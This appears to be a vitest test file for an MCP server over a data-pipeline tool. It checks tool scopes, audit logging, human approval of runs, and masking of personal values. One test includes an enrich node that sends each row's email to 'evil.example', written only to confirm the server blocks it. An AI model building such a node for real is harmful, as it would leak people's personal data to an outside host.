import { Client } from '@modelcontextprotocol/client'
import { InMemoryTransport } from '@modelcontextprotocol/server'
import { afterEach, expect, test } from 'vitest'

import { allows, type McpScope, mcpScopes } from '../../../src-shared/api-keys/mcp-scope.ts'
import { AppError } from '../../../src-shared/errors/app-error.ts'
import { failureDefinition } from '../../../src-shared/errors/failures.ts'
import type { AuditedCall } from '../../services/audit/audited.ts'
import { servicesWith } from '../testing/services-with.ts'
import { maskFailure } from './masking/mask-failure.ts'
import { openMcpServer } from './open-mcp-server.ts'
import { mcpTools } from './tools/registry.ts'

const clients: Client[] = []
afterEach(async () => {
  await Promise.all(clients.splice(0).map((client) => client.close()))
})

type Given = Parameters<typeof servicesWith>[0]

/** Of a document of Flow IR. */
const head = {
  ...{ kind: 'pipeline', version: '1.0', id: 'p', metadata: { name: 'P' } },
  errorHandling: { dlq: { enabled: false }, retry: { maxAttempts: 1, backoff: 'none' } },
}

/** A workspace without schemas. */
const schemas = { list: () => Promise.resolve([]) }

/** The official client over a pair of streams in this process. */
async function connect(scope: McpScope, given: Given = {}, noted: string[] = []) {
  const [near, far] = InMemoryTransport.createLinkedPair()
  const server = openMcpServer({
    services: servicesWith(given),
    audited: async <Result>({ call, subject, context, outcome }: AuditedCall<Result>, work: () => Promise<Result>) => {
      const said = (end: string) => noted.push(`${context?.caller?.name ?? ''} ${call} ${subject(null) ?? ''} ${end}`)
      const result = await work().catch((error: unknown) => {
        said((error as AppError).code)
        throw error
      })
      said(outcome?.(result) ?? 'done')
      return result
    },
    reportBug: (bug) => {
      throw bug
    },
    scope,
    caller: { kind: 'mcp', name: 'client' },
  })
  await server.connect(far)
  const client = new Client({ name: 'Test <client>', version: '1' })
  await client.connect(near)
  clients.push(client)
  return client
}

const asked: Readonly<Record<string, unknown>> = {
  ...{ pipelineId: 'p', runId: 'r', approvalId: 'a', nodeId: 'n', name: 'P', connectorId: 'c', schemaId: 's' },
  ir: { kind: 'pipeline', version: '1.0', id: 'p', nodes: [] },
}

/** What a tool takes, as far as it needs it. */
function inputOf({ input }: (typeof mcpTools)[number]): Record<string, unknown> {
  const needed = Object.entries(input.shape).filter(
    ([, field]) => !(field as { safeParse(value: unknown): { success: boolean } }).safeParse(undefined).success,
  )
  return Object.fromEntries(
    [...needed.map(([key]) => key), ...('ir' in input.shape ? ['ir'] : [])].map((key) => [key, asked[key]]),
  )
}

test('every tool does what its scope lets it, says which it needs, and leaves an entry in the audit log', async () => {
  for (const scope of mcpScopes) {
    const noted: string[] = []
    const client = await connect(scope, {}, noted)
    const { tools } = await client.listTools()
    expect(tools.map(({ name }) => name)).toEqual(mcpTools.map(({ name }) => name))
    for (const tool of mcpTools) {
      const answer = await client.callTool({ name: tool.name, arguments: inputOf(tool) })
      const { code } = (answer.structuredContent as { readonly error: { readonly code: string } }).error
      expect(answer.isError).toBe(true)
      const isAllowed = allows(scope, tool.needs)
      expect(code === 'scope_not_enough', `${scope} ${tool.name}: ${code}`).toBe(!isAllowed)
      expect(noted.at(-1), `${scope} ${tool.name}`).toMatch(
        new RegExp(`^Test client mcp.${tool.name} .*${code === 'request_invalid' ? '' : code}`),
      )
    }
    expect(noted).toHaveLength(mcpTools.length)
  }
})

test('what loads waits for a person unless the scope is run', async () => {
  const started: unknown[] = []
  const run = { id: 'r', pipelineId: 'p', irVersion: 3, status: 'succeeded', result: null, error: null, ir: {} }
  const plan = { files: [], nodes: [], targets: [], guards: [] }
  const given: Given = {
    schemas,
    pipelines: {
      get: () => Promise.resolve({ version: 3 } as never),
      version: () => Promise.resolve({ version: 3, authoredBy: 'ada', ir: { nodes: [] } } as never),
    },
    runs: {
      get: () => Promise.resolve(run as never),
      events: () => Promise.resolve((async function* () {})()),
      start: (input, context) => {
        started.push({ ...input, by: context?.caller?.kind })
        return Promise.resolve(run as never)
      },
    },
    approvals: {
      request: (input) => {
        started.push({ asked: input })
        return Promise.resolve({ id: 'a', state: 'waiting', note: null, plan } as never)
      },
    },
  }
  const calls = [
    { name: 'runFlowPipeline', arguments: { pipelineId: 'p' } },
    { name: 'replayFlowRun', arguments: { runId: 'r' } },
  ]
  for (const scope of mcpScopes) {
    const client = await connect(scope, given)
    for (const call of calls) {
      const answer = (await client.callTool(call)).structuredContent as Record<string, unknown>
      if (scope === 'propose') expect(answer).toMatchObject({ approval: { approvalId: 'a', state: 'waiting' } })
      if (scope === 'run') expect(answer).toMatchObject({ runId: 'r', ok: true })
    }
  }
  expect(started).toEqual([
    { asked: { pipelineId: 'p', version: 3 } },
    { asked: { pipelineId: 'p', version: 3, replayOf: 'r' } },
    { pipelineId: 'p', version: 3, by: 'mcp' },
    { pipelineId: 'p', version: 3, by: 'mcp' },
  ])
})

test('a document of a program that would send values elsewhere shows no rows, and one that a schedule runs is not changed', async () => {
  const enrich = { id: 'ask', kind: 'enrich', provider: 'http', config: { url: 'https://evil.example/{{email}}' } }
  const given = (authoredBy: string): Given => ({
    pipelines: {
      get: () => Promise.resolve({ version: 1, liveVersion: null, schedule: '0 2 * * *', ir: {} } as never),
      version: () => Promise.resolve({ version: 1, authoredBy, ir: { nodes: [enrich] } } as never),
    },
  })
  const codeOf = async (client: Client, name: string, more: object = {}) => {
    const { structuredContent } = await client.callTool({ name, arguments: { pipelineId: 'p', ...more } })
    return (structuredContent as { readonly error: { readonly code: string } }).error.code
  }
  const byProgram = await connect('propose', given('Test client (MCP)'))
  const byPerson = await connect('propose', given('ada'))
  const ir = { nodes: [enrich] }
  expect(await codeOf(byProgram, 'previewFlowNode', { nodeId: 'ask' })).toBe('lookup_over_mcp')
  expect(await codeOf(byProgram, 'planFlowRun')).toBe('lookup_over_mcp')
  expect(await codeOf(byProgram, 'runFlowPipeline')).toBe('lookup_over_mcp')
  expect(await codeOf(byPerson, 'previewFlowNode', { nodeId: 'ask', ir })).toBe('lookup_over_mcp')
  const text = JSON.stringify(ir)
  expect(await codeOf(byPerson, 'previewFlowNode', { nodeId: 'ask', ir: text })).toBe('lookup_over_mcp')
  expect(await codeOf(byPerson, 'previewFlowNode', { nodeId: 'ask' })).toBe('not_found')
  expect(await codeOf(byPerson, 'updateFlowPipelineIr', { ir: {} })).toBe('version_runs_by_schedule')
  const scheduled = { name: 'P', connectorId: 'c', schemaId: 's', ir: { schedule: { kind: 'interval', minutes: 5 } } }
  expect(await codeOf(byPerson, 'createFlowPipeline', scheduled)).toBe('version_runs_by_schedule')
  expect(await codeOf(await connect('run', given('ada')), 'updateFlowPipelineIr', { ir: {} })).toBe('request_invalid')
})

test('a document of a program takes no names of columns from further down a file, where values are', async () => {
  const check = () => Promise.resolve({ ok: true, problems: [], columns: {} } as never)
  const given: Given = { schemas, pipelines: { check } }
  const codeOf = async (scope: McpScope, formatOptions: object) => {
    const client = await connect(scope, given)
    const ir = { nodes: [{ id: 'src', kind: 'source', config: { formatOptions } }] }
    const answer = await client.callTool({ name: 'checkFlowPipeline', arguments: { pipelineId: 'p', ir } })
    return (answer.structuredContent as { readonly error?: { readonly code: string } }).error?.code
  }
  for (const deep of [{ skipRows: 21 }, { headerRow: 500 }, { range: 'B30:F90' }])
    expect(await codeOf('propose', deep)).toBe('request_invalid')
  expect(await codeOf('propose', { skipRows: 3, range: 'B3:F90' })).toBeUndefined()
  expect(await codeOf('run', { skipRows: 500 })).toBeUndefined()
})

test('names of columns are shown where the rows below prove them names, or a document or a schema says them', async () => {
  const text = (name: string) => ({ name, type: 'text' })
  const linesOf = (lines: readonly string[]) => lines.map((line) => line.split(','))
  const check = async (
    lines: readonly string[],
    { scope = 'propose', ...more }: { scope?: McpScope; config?: object; fields?: readonly object[] } = {},
  ) => {
    const [names = [], ...rows] = linesOf(lines)
    const columns = names.map(text)
    const list = () => Promise.resolve([{ fields: more.fields ?? [] }] as never)
    const message = `src: column ${names[0] ?? ''} is not used`
    const problem = { code: 'c', severity: 'warning', message, nodeId: 'src', path: '' }
    const client = await connect(scope, {
      schemas: { list },
      pipelines: {
        check: () => Promise.resolve({ ok: true, problems: [problem], columns: { src: columns } } as never),
        preview: () => Promise.resolve({ columns, rows } as never),
      },
    })
    const config = { path: '/in/a', format: 'csv', ...more.config }
    const ir = { ...head, nodes: [{ id: 'src', kind: 'source', connector: 'local_fs', config }] }
    const answer = await client.callTool({ name: 'checkFlowPipeline', arguments: { pipelineId: 'p', ir } })
    const found = answer.structuredContent as {
      readonly columns: { readonly src: readonly { readonly name: string }[] }
      readonly problems: readonly [{ readonly message: string }]
    }
    return [found.columns.src.map(({ name }) => name).join(' '), found.problems[0].message.split(' ')[2]]
  }
  const sure = ['person,born', 'Zoe,1980', 'Ada,1990', 'Bob,2001']
  expect(await check(sure)).toEqual(['person born', 'person'])
  // A first line like the others, and one of texts above texts, may be a record.
  expect(await check(['Zoe,1980', 'Ada,1990', 'Bob,2001'])).toEqual(['Aaa (column 1) 9999 (column 2)', 'Aaa'])
  expect(await check(['Zoe,Ulm', 'Ada,Lund', 'Bob,Oulu'])).toEqual(['Aaa (column 1) Aaa (column 2)', 'Aaa'])
  const fields = [{ name: 'person' }]
  expect(await check(['person,town', 'Ada,Lund'], { fields })).toEqual(['person aaaa (column 2)', 'person'])
  // A program that chooses the line, or joins lines, could make values look like names.
  for (const formatOptions of [{ skipRows: 1 }, { headerRows: 2 }]) {
    expect(await check(sure, { config: { formatOptions } })).toEqual(['aaaaaa (column 1) aaaa (column 2)', 'aaaaaa'])
    expect(await check(sure, { config: { formatOptions }, scope: 'run' })).toEqual(['person born', 'person'])
  }
  expect(await check(['Zoe,Ulm'], { config: { format: 'parquet' } })).toEqual(['Zoe Ulm', 'Zoe'])
  expect(await check(['a,b'], { config: { formatOptions: { header: false } } })).toEqual(['a b', 'a'])
})

test('a version that somebody else saved meanwhile is not overwritten where the client says what it began with', async () => {
  const saved: unknown[] = []
  const given: Given = {
    pipelines: {
      get: () => Promise.resolve({ version: 2, liveVersion: null, schedule: null, ir: {} } as never),
      save: (input) => {
        saved.push(input)
        return Promise.reject(new AppError('version_moved', { pipeline: 'P', expected: 1, found: 2 }))
      },
    },
  }
  const config = { path: '/in', format: 'csv', pattern: { type: 'glob', value: '*.csv' } }
  const ir = {
    ...head,
    nodes: [
      { id: 'src', kind: 'source', connector: 'local_fs', config },
      { id: 'tgt', kind: 'target', input: 'src', schema: 'public.ds_a', loadMode: 'truncate' },
    ],
  }
  const client = await connect('run', given)
  const call = { name: 'updateFlowPipelineIr', arguments: { pipelineId: 'p', ir, baseVersion: 1 } }
  expect((await client.callTool(call)).structuredContent).toMatchObject({ error: { code: 'version_moved' } })
  expect(saved).toMatchObject([{ id: 'p', baseVersion: 1 }])
})

test('what a check proposes brings no value, and a column that is one is a shape', async () => {
  const fix = (label: string, value: string) => ({ label, edits: [{ path: 'nodes[0].column', value }] })
  const problem = { code: 'c', severity: 'error', message: 'm', nodeId: 'n', path: 'nodes[0]' } as const
  const problems = [{ ...problem, fix: fix('Use ada@x.org', 'ada@x.org'), otherFixes: [fix('Use amount', 'amount')] }]
  const client = await connect('read', {
    schemas,
    pipelines: {
      check: () => Promise.resolve({ ok: false, problems, columns: { n: [] } } as never),
    },
  })
  const call = { name: 'checkFlowPipeline', arguments: { pipelineId: 'p', ir: { nodes: [] } } }
  const { structuredContent } = await client.callTool(call)
  expect(structuredContent).toMatchObject({ problems: [{ fix: fix('Use amount', 'amount') }] })
  expect(JSON.stringify(structuredContent)).not.toContain('ada')

  const place = { file: 'a.csv', line: 4, column: 'ada@x.org', value: 'b' }
  const failure = maskFailure({ code: 'row_refused', message: 'ada@x.org: b', nodeId: 'tgt', place })
  expect(failure).toMatchObject({ column: 'aaa@a.aaa' })
  expect(JSON.stringify(failure)).not.toContain('ada')
})

test('a failure of the data is said without its sentence, and one about counts with it', () => {
  const place = { file: 'a.csv', line: 4, column: 'email', value: 'ada@x.org' }
  const message = 'target tgt: a.csv, line 4, column email: Ada Lovelace <ada@x.org> was refused by trigger: bad Ada'
  const rules = { known: new Set(['email']), doubtful: null }
  const masked = maskFailure({ code: 'row_refused', message, nodeId: 'tgt', place }, rules)
  expect(masked).toMatchObject({ failureClass: 'data', line: 4, column: 'email', shape: 'aaa@a.aaa' })
  expect(JSON.stringify(masked)).not.toMatch(/ada|lovelace/i)
  const unseen = { known: new Set<string>(), doubtful: null }
  const named = { code: 'pipeline_has_problems', message: 'P has 1 problem. tgt: there is no id; Zebedee is there' }
  expect(maskFailure(named, unseen).message).toBe(
    'The document does not fit its files (pipeline_has_problems). The studio says why.',
  )
  expect(maskFailure(named, { known: new Set(), doubtful: new Set(['Zebedee']) }).message).toContain(
    '; Aaaaaaa is there',
  )
  const empty = 'target ds_customer: source is empty (0 rows from src); aborting truncate to prevent data loss.'
  expect(maskFailure({ code: 'source_empty', message: empty }).message).toBe(empty)
  expect(failureDefinition('approval_needs_person').httpStatus).toBe(403)
})
